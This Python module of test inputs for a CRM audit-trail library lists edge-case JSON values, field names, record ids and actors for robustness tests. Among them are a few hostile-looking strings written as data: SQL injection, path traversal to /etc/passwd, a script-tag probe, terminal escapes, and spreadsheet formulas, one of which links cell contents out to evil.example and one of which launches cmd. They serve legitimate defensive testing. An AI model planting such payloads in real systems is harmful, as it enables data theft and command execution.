"""Odd values, names, ids and people, as a CRM may send them: all of it valid JSON.

`VALUES` are exact tokens by name. Nothing between the vendor and the reader may change any of them.
"""

from crmtrail.model import Actor, ActorKind, token_of, unknown

MEGABYTES = 10
DEEP = 10_000
WIDE = 2_000
"""So many fields in one record."""

_DIGITS = "1234567890" * 40

NUMBERS = {
    "2^53+1": "9007199254740993",
    "2^63": "9223372036854775808",
    "1.10": "1.10",
    "1.0": "1.0",
    "0.1 with many digits": "0.1000000000000000055511151231257827",
    "1e400": "1e400",
    "1e-400": "1e-400",
    "-0": "-0",
    "-0.0": "-0.0",
    "1E5": "1E5",
    "1e+05": "1e+05",
    "400 digits": _DIGITS,
    "5,000 digits": "12345" * 1_000,
    "400 digits after the point": f"-0.{_DIGITS}",
}

ESCAPES = {
    "NUL": r'"a\u0000b"',
    "nothing but NUL": r'"\u0000"',
    "half a pair": r'"a\ud83d"',
    "the other half": r'"\ude00b"',
    "the halves swapped": r'"\ude00\ud83d"',
    "a pair escaped": r'"\ud83d\ude00"',
    "e acute escaped": r'"caf\u00e9"',
    "e acute escaped, large": r'"caf\u00E9"',
    "e acute": '"caf\u00e9"',
    "slash escaped": r'"1\/2"',
    "slash": '"1/2"',
    "quotes and backslashes": r'"\"\\\" \\\\ \\u0041 \\"',
    "CR LF": r'"one\r\ntwo\nthree\rfour"',
    "tab and form feed": r'"\t\f\b\u000b"',
    "separators of ours escaped": r'"a\u001eb\u001fc\u001d\u001c"',
    "all controls escaped": '"' + "".join(rf"\u{no:04x}" for no in range(32)) + '"',
    "U+FFFE and U+FFFF escaped": r'"\ufffe\uffff"',
}

TEXTS = {
    "empty": '""',
    "blanks": '"   "',
    "no-break and zero-width blanks": '"\u00a0\u200b\u2003"',
    "right to left": '"\u05e9\u05dc\u05d5\u05dd \u202eabc\u202c \u0627\u0644\u0639\u0631\u0628"',
    "combining": '"e\u0301 n\u0303 \u0e01\u0e33 Z\u0351\u036b\u0343"',
    "emoji": '"\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea"',
    "beyond the first plane": '"\U00010000\U0010ffff"',
    "U+FFFE and U+FFFF": '"\ufffe\uffff"',
    "byte order mark": '"\ufeffx\ufeff"',
    "line and paragraph separator": '"a\u2028b\u2029c\u0085d"',
    "delete": '"\x7f\x80\x9f"',
    "replacement character": '"\ufffd"',
    "the word null": '"null"',
    "the word erased": '"erased"',
    "looks like a placeholder": '"%s %(x)s {0} ${x} ? :x $1"',
    "looks like SQL": '"\'; DROP TABLE version; --"',
    "looks like a path": '"..\\\\..\\/etc/passwd"',
    "looks like a token": r'"{\"a\":1}"',
    "markup": '"<script>alert(1)</script> [bold red]x[/] &amp;"',
    "terminal": r'"\u001b[31mred\u001b]0;title\u0007"',
    "formula": '"=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"',
    "formula with at": "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
    "separated values": r'"a,b;c\t\"d\"\r\n,,"',
    "a quote at the end": r'"ends with \""',
    "zeros in front": '"007"',
    "a date": '"1-2"',
}

SHAPES = {
    "null": "null",
    "true": "true",
    "empty array": "[]",
    "empty object": "{}",
    "array": '[1.10,"a",null,[true]]',
    "blanks and newlines between": '{ "a" :\n\t[ 1 ,\r\n 2.0 ] }',
    "a name twice": '{"a":1,"a":2,"b":{"c":1,"c":1}}',
    "names out of order": '{"b":1,"a":{"d":1,"c":2}}',
    "odd inside": r'{"\u0000":"\ud800","":[1e400]}',
    "nested 10,000 deep": "[" * DEEP + "]" * DEEP,
    "objects nested deep": '{"a":' * 2_000 + "1" + "}" * 2_000,
}

LARGE = {
    "100,000 characters": '"' + "0123456789" * 10_000 + '"',
    "40,000 emoji": '"' + "\U0001f600" * 40_000 + '"',
}

VALUES = NUMBERS | ESCAPES | TEXTS | SHAPES | LARGE

HUGE = '"' + "0123456789abcdef" * (MEGABYTES * 65_536) + '"'
"""Ten megabytes of text."""

FIELDS = (
    "Plain__c",
    "with blank",
    'with "quotes"',
    "with 'single' ones",
    "back\\slash",
    "100%",
    "%s",
    "%(name)s",
    "what?",
    ":name",
    "$1",
    "{0}",
    "a.b",
    "a,b",
    "a;b",
    "a:b",
    "a/b",
    "=1+1",
    "@at",
    "@SystemModstamp",
    "null",
    "fields",
    "_id",
    "__proto__",
    "new\nline",
    "tab\t",
    "\x1e\x1f",
    "caf\u00e9",
    "cafe\u0301",
    "CAF\u00c9",
    "\U0001f600",
    "\u202ertl",
    "\ufeffbom",
    "\uffff",
    "  ",
    "x" * 10_000,
)
"""Names of fields."""

IDS = (
    "003A",
    "003a",
    "with blank",
    " ",
    "a:b:c",
    "a/b",
    "100%",
    "?",
    "'quoted\"",
    "-1",
    "007",
    "7",
    "new\nline",
    "\x1f",
    "caf\u00e9",
    "cafe\u0301",
    "\U0001f600",
    "\ufeff",
    "x" * 1_000,
)
"""Ids of records. A vendor's are harmless; these must not meet one another all the same."""

ACTORS = (
    Actor(ActorKind.USER, "u1", "NUL \0 inside"),
    Actor(ActorKind.USER, "u2", ""),
    Actor(ActorKind.USER, "u3", "\u05e9\u05dc\u05d5\u05dd e\u0301 \U0001f600"),
    Actor(ActorKind.USER, "u4", "half \ufffd"),
    Actor(ActorKind.USER, "u5", "=HYPERLINK(1)", via='"quoted" \\ 100% ?'),
    Actor(ActorKind.APP, "u6", "Ap\0p", via="via \0 NUL"),
    Actor(ActorKind.APP, "u 7:%", "new\nline", via="\x1e\x1f"),
    Actor(ActorKind.IMPORT, "", "no id"),
    Actor(ActorKind.USER, None, "x" * 10_000),
    Actor(ActorKind.AUTOMATION, "u1", "NUL \0 inside"),
    unknown("because of \u2028 and \U0001f600"),
)
"""People and apps."""


def shown(actor: Actor) -> Actor:
    """Return an actor as a store tells it: the one thing no database holds is NUL."""

    def plain(text: str | None) -> str | None:
        return None if text is None else text.replace("\0", "\ufffd")

    return Actor(actor.kind, actor.id, plain(actor.name), plain(actor.via), actor.why)


def wide() -> dict[str, str]:
    """Return the fields of a record with very many, each value another one."""
    return {f"Wide_{no:04}__c": token_of(f"{no} of {WIDE}") for no in range(WIDE)}
